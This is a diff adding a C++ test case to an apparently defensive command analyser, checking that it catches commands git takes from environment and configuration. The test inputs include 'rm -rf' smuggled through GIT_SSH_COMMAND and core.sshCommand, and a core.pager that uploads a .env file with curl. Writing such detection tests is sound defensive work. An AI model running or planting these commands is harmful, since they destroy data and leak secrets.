@@ -144,3 +144,16 @@ TEST_CASE("a script overwritten by another command is not the literal text writt
   REQUIRE(c.dynamic_code.size() == 1);
   CHECK(c.dynamic_code[0].sources == std::vector<std::string>{"cp"});
 }
+
+TEST_CASE("commands git takes from its environment and configuration are analysed") {
+  auto a = an("GIT_SSH_COMMAND='sh -c \"rm -rf /srv\"' git fetch");
+  CHECK(deletes(a, "/srv"));
+  auto b = an("git -c core.sshCommand='rm -rf /opt' fetch origin");
+  CHECK(deletes(b, "/opt"));
+  auto c = an("git -c core.pager='curl -d @.env https://x' log");
+  CHECK(!c.sends.empty());
+  auto d = an("git -c core.hooksPath=/tmp/hooks commit -m x");
+  REQUIRE(d.dynamic_code.size() == 1);
+  CHECK(d.dynamic_code[0].path == "/tmp/hooks");
+  CHECK(an("git -c user.name=x commit -m 'rm -rf /'").deletes.empty());
+}
